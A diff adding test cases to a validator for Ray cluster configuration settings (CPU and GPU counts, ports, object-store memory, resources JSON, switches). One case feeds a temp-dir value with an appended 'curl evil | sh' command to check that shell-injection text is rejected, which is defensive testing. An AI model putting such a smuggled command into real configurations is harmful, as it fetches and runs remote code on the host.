@@ -612,6 +612,90 @@ BAD_INPUTS: list[tuple[str, str, Mutation, str]] = [
     ),
     (
         "local",
+        "ray start param that is not a number",
+        _set("ray.head.rayStartParams.num-cpus", "lots"),
+        'ray-platform:ray.head.rayStartParams.num-cpus ("lots") must be a whole number',
+    ),
+    (
+        "local",
+        "fractional CPUs, which ray start refuses",
+        _set("ray.workerGroups.0.rayStartParams.num-cpus", "1.5"),
+        'ray-platform:ray.workerGroups[0].rayStartParams.num-cpus ("1.5") must be a whole number',
+    ),
+    (
+        "dev",
+        "ray start param given as a YAML number",
+        _set("ray.head.rayStartParams.num-gpus", 1),
+        "ray-platform:ray.head.rayStartParams.num-gpus (1) must be a string",
+    ),
+    (
+        "dev",
+        "unknown ray start option",
+        _set("ray.workerGroups.0.rayStartParams.num-cpu", "2"),
+        'ray-platform:ray.workerGroups[0].rayStartParams.num-cpu ("2") is not an option of '
+        "`ray start` (check its spelling)",
+    ),
+    (
+        "local",
+        "dashboard port out of range",
+        _set("ray.head.rayStartParams.dashboard-port", "70000"),
+        'ray-platform:ray.head.rayStartParams.dashboard-port ("70000") must be a port number',
+    ),
+    (
+        "local",
+        "worker port list with a word",
+        _set("ray.head.rayStartParams.worker-port-list", "10002,ten"),
+        'ray-platform:ray.head.rayStartParams.worker-port-list ("10002,ten") must be port numbers',
+    ),
+    (
+        "local",
+        "object store below Ray's minimum",
+        _set("ray.head.rayStartParams.object-store-memory", "1000"),
+        'ray-platform:ray.head.rayStartParams.object-store-memory ("1000") is below 78643200 bytes',
+    ),
+    (
+        "local",
+        "object store as big as the pod",
+        _set("ray.head.rayStartParams.object-store-memory", str(2 * 1024**3)),
+        'ray-platform:ray.head.rayStartParams.object-store-memory ("2147483648") is not below the '
+        "pod's memory (ray.head.memory: 2Gi)",
+    ),
+    (
+        "local",
+        "more GPUs for Ray than the pod gets",
+        _set("ray.workerGroups.0.rayStartParams.num-gpus", "1"),
+        'ray-platform:ray.workerGroups[0].rayStartParams.num-gpus ("1") is more than the 0 GPU(s) '
+        "the pod gets (ray.workerGroups[0].gpu)",
+    ),
+    (
+        "local",
+        "ray start param with shell text",
+        _set("ray.head.rayStartParams.temp-dir", "/tmp/ray; curl evil | sh"),
+        'ray-platform:ray.head.rayStartParams.temp-dir ("/tmp/ray; curl evil | sh") has characters '
+        "the shell that runs `ray start` would interpret",
+    ),
+    (
+        "local",
+        "resources as bare JSON the shell would mangle",
+        _set("ray.head.rayStartParams.resources", '{"custom": 1}'),
+        'ray-platform:ray.head.rayStartParams.resources ("{\\"custom\\": 1}") must be a JSON '
+        "object in double quotes with its quotes escaped",
+    ),
+    (
+        "local",
+        "resources with a name for a count",
+        _set("ray.head.rayStartParams.resources", '"{\\"custom\\": \\"many\\"}"'),
+        "must map resource names to non-negative numbers",
+    ),
+    (
+        "local",
+        "switch given as yes",
+        _set("ray.head.rayStartParams.disable-usage-stats", "yes"),
+        'ray-platform:ray.head.rayStartParams.disable-usage-stats ("yes") must be "true" or '
+        '"false"',
+    ),
+    (
+        "local",
         "hostPath inside the image",
         _set("local.hostPath", "/etc/ray"),
         'ray-platform:local.hostPath ("/etc/ray") would hide or sit inside a directory',
@@ -697,6 +781,20 @@ def test_all_errors_are_reported_together() -> None:
         _set("storage.artifactBucket.prefix", "team-a/ray/dev"),
         _set("storage.sharedFilesystem.size", "100Mi"),
         _set("kubernetes.namespace", "kube-ray"),
+        _set("ray.head.rayStartParams", {"num-cpus": "0", "dashboard-host": "0.0.0.0"}),
+        _set(
+            "ray.workerGroups.0.rayStartParams",
+            {
+                "num-cpus": "8",
+                "object-store-memory": "4000000000",
+                "resources": '"{\\"accelerator_a\\": 1, \\"slots\\": 0.5}"',
+                "worker-port-list": "10002,10003",
+                "include-dashboard": "false",
+                "block": "true",
+                "temp-dir": "/tmp/ray",
+                "labels": "zone=a,tier=spot",
+            },
+        ),
     ],
 )
 def test_real_world_values_are_accepted(mutate: Mutation) -> None:
